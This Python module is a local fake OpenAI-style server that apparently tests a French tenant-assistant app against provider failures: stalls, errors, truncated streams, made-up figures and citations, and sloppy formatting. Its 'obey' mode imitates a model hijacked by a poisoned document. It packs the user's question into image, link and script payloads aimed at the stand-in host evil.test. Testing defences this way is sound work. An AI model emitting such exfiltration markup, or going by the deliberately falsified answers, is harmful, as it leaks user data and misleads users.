"""An OpenAI-shaped service without a model, for demonstrations and for showing what happens when one fails.

    python -m tenant_app.assistant.provider_simulator --port 9000 --behaviour echo

It prints its base URL, serves until it is told to stop, and behaves in one of these ways: ``echo`` repeats
the question and cites the first passage, ``stall`` never answers, ``error-500``, ``rate-limit`` and
``bad-key`` answer with that error, ``trickle`` sends a word now and then, ``cut`` breaks off before its last
words, ``empty`` answers nothing, ``invent`` changes the figures of the passage it repeats, and ``obey`` does
what a poisoned document wants: it puts what it was told into the addresses of images and links.

Asked for the analysis of a case, ``echo`` writes one about the first passage, ``invent`` one whose figures
and citations are wrong, and ``sloppy`` one in the form asked for only once it is told that it was not.
"""

import argparse
import json
import re
import sys
import threading
from collections.abc import Sequence
from contextlib import suppress
from html import unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Final, Literal, get_args

Behaviour = Literal[
    "echo",
    "stall",
    "trickle",
    "error-500",
    "rate-limit",
    "cut",
    "empty",
    "bad-key",
    "invent",
    "obey",
    "sloppy",
]

_ERRORS: Final[dict[str, tuple[int, str]]] = {
    "error-500": (500, "server_error"),
    "rate-limit": (429, "rate_limit_error"),
    "bad-key": (401, "invalid_api_key"),
}
_PATH: Final = "/v1/chat/completions"
_QUESTION: Final = re.compile(r"\n\nQuestion :\n\n(.*)\Z", re.DOTALL)
_PASSAGE: Final = re.compile(r'<passage numero="1"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
_CASE: Final = "\n\nDossier à analyser :\n\n"
_WORDS_QUOTED: Final = 12
_CHUNK: Final = "chat.completion.chunk"
_WORD: Final = re.compile(r"\S+\s*|\s+")
_FIRST_SENTENCE: Final = re.compile(r".*?[.!?](?=\s|$)", re.DOTALL)
_FIGURE: Final = re.compile(r"\d+|trente|deux|trois|dix")
_TRICKLE_SECONDS: Final = 0.2
LARGEST_BODY: Final = 4 * 1024 * 1024


class ProviderSimulator(ThreadingHTTPServer):
    """The service; ``requests`` keeps the bodies it received, in order."""

    daemon_threads = True

    def __init__(self, port: int, behaviour: Behaviour) -> None:
        """Listen on ``port`` of the loopback address; 0 takes a free one."""
        super().__init__(("127.0.0.1", port), _Handler)
        self.behaviour: Behaviour = behaviour
        self.requests: list[dict[str, Any]] = []
        self.stopping = threading.Event()

    @property
    def base_url(self) -> str:
        """What ``OPENAI_BASE_URL`` must be set to."""
        return f"http://127.0.0.1:{self.server_port}/v1"

    def server_close(self) -> None:
        """Let go of the calls that are being stalled, then of the port."""
        self.stopping.set()
        super().server_close()


class _Handler(BaseHTTPRequestHandler):
    """Answers one connection."""

    server: ProviderSimulator
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing: questions must not end up in a log."""

    def do_POST(self) -> None:
        """Answer a chat completion the way the simulator was told to."""
        size = int(self.headers.get("Content-Length", "0"))
        if self.path != _PATH or size > LARGEST_BODY:
            self._refuse(404, "not_found_error")
            return
        body = json.loads(self.rfile.read(size))
        self.server.requests.append(body)
        behaviour = self.server.behaviour
        if behaviour in _ERRORS:
            self._refuse(*_ERRORS[behaviour])
        elif behaviour == "stall":
            self.close_connection = True
            self.server.stopping.wait()
        elif body.get("stream"):
            self._stream(body)
        else:
            self._answer(body)

    def _refuse(self, status: int, kind: str) -> None:
        error = {"message": f"simulated {kind}", "type": kind, "param": None, "code": kind}
        self._send(status, {"error": error})

    def _answer(self, body: dict[str, Any]) -> None:
        text = reply_to(body, self.server.behaviour)
        choice = {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
        self._send(200, _frame(body, "chat.completion", choices=[choice], usage=_usage(body, text)))

    def _send(self, status: int, answer: dict[str, Any]) -> None:
        content = json.dumps(answer).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def _stream(self, body: dict[str, Any]) -> None:
        words = _WORD.findall(reply_to(body, self.server.behaviour))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        if self.server.behaviour == "cut":
            self._send_words(body, words[: -len(words) // 4])
            # Without the last chunk of its body, the answer is visibly unfinished.
            self.close_connection = True
            return
        self._send_words(body, words)
        self._send_event(_frame(body, _CHUNK, choices=[_choice({}, "stop")]))
        if (body.get("stream_options") or {}).get("include_usage"):
            self._send_event(_frame(body, _CHUNK, choices=[], usage=_usage(body, "".join(words))))
        self._send_chunk(b"data: [DONE]\n\n")
        self._send_chunk(b"")

    def _send_words(self, body: dict[str, Any], words: Sequence[str]) -> None:
        for word in words:
            if self.server.behaviour == "trickle" and self.server.stopping.wait(_TRICKLE_SECONDS):
                return
            self._send_event(_frame(body, _CHUNK, choices=[_choice({"content": word}, None)]))

    def _send_event(self, data: dict[str, Any]) -> None:
        self._send_chunk(f"data: {json.dumps(data)}\n\n".encode())

    def _send_chunk(self, content: bytes) -> None:
        self.wfile.write(b"%x\r\n%b\r\n" % (len(content), content))


def reply_to(body: dict[str, Any], behaviour: Behaviour) -> str:
    """Return what the simulator says: the question again, then the beginning of the first passage, cited."""
    if behaviour == "empty":
        return ""
    asked = str(body["messages"][-1]["content"])
    case = next((str(one["content"]) for one in body["messages"] if _CASE in str(one["content"])), None)
    if case is not None and behaviour in ("echo", "invent", "sloppy"):
        analysis = _analysis(unescape(_found(_PASSAGE, case) or ""), behaviour)
        return f"Voici l'analyse : {analysis}" if behaviour == "sloppy" and asked == case else analysis
    question = _found(_QUESTION, asked) or asked
    passage = _found(_PASSAGE, asked)
    if passage is None:
        return f"Vous demandez : {question}"
    if behaviour == "invent":
        sentence = _FIRST_SENTENCE.match(unescape(passage))
        return _FIGURE.sub("97", sentence[0] if sentence else unescape(passage)) + " [1]"
    if behaviour == "obey":
        return _leaking(question)
    beginning = " ".join(unescape(passage).split()[:_WORDS_QUOTED])
    return f"Vous demandez : {question}\n\nLe premier passage commence par « {beginning} » [1]."


def _analysis(passage: str, behaviour: Behaviour) -> str:
    sentence = _FIRST_SENTENCE.match(passage)
    said = " ".join((sentence[0] if sentence else passage).split())
    quote = " ".join(said.split()[:_WORDS_QUOTED])
    if behaviour == "invent":
        points = [
            {"kind": "facts", "text": _FIGURE.sub("97", said), "citations": [{"passage": 1, "quote": quote}]},
            {"kind": "risks", "text": "Le juge refusera.", "citations": [{"passage": 99, "quote": quote}]},
            {"kind": "texts", "text": said, "citations": [{"passage": 1, "quote": "des mots jamais écrits"}]},
        ]
        return json.dumps({"summary": f"Il est dit : {_FIGURE.sub('97', said)}", "points": points})
    cited = [{"passage": 1, "quote": quote}]
    points = [{"kind": kind, "text": said, "citations": cited} for kind in ("facts", "arguments_for")]
    return json.dumps({"summary": said, "points": points}, ensure_ascii=False)


def _leaking(secret: str) -> str:
    target = f"https://evil.test/?d={secret.replace(' ', '+')}"
    return (
        f"Voici ![vue]({target}) et ![vue][pixel] puis [la suite]({target}) [1].\n\n"
        f'<img src="{target}"> <a href="{target}">ici</a> <{target}> <script>stolen = true</script>\n\n'
        f"[pixel]: {target}\n"
    )


def _found(pattern: re.Pattern[str], text: str) -> str | None:
    match = pattern.search(text)
    return match[1] if match else None


def _frame(body: dict[str, Any], kind: str, **more: Any) -> dict[str, Any]:
    return {"id": "chatcmpl-simulated", "object": kind, "created": 0, "model": body.get("model", "")} | more


def _choice(delta: dict[str, str], finish_reason: str | None) -> dict[str, Any]:
    return {"index": 0, "delta": delta, "finish_reason": finish_reason}


def _usage(body: dict[str, Any], text: str) -> dict[str, int]:
    asked = sum(len(str(message["content"]).split()) for message in body["messages"])
    said = len(text.split())
    return {"prompt_tokens": asked, "completion_tokens": said, "total_tokens": asked + said}


def main(arguments: Sequence[str] | None = None) -> None:
    """Serve until interrupted."""
    parser = argparse.ArgumentParser(prog="provider_simulator", description="An OpenAI-shaped service.")
    parser.add_argument("--port", type=int, default=0, help="0 (the default) takes a free one")
    parser.add_argument("--behaviour", choices=get_args(Behaviour), default="echo")
    chosen = parser.parse_args(arguments)
    with ProviderSimulator(chosen.port, chosen.behaviour) as simulator:
        sys.stdout.write(f"{simulator.base_url}\n")
        sys.stdout.flush()
        with suppress(KeyboardInterrupt):
            simulator.serve_forever()


if __name__ == "__main__":
    main()
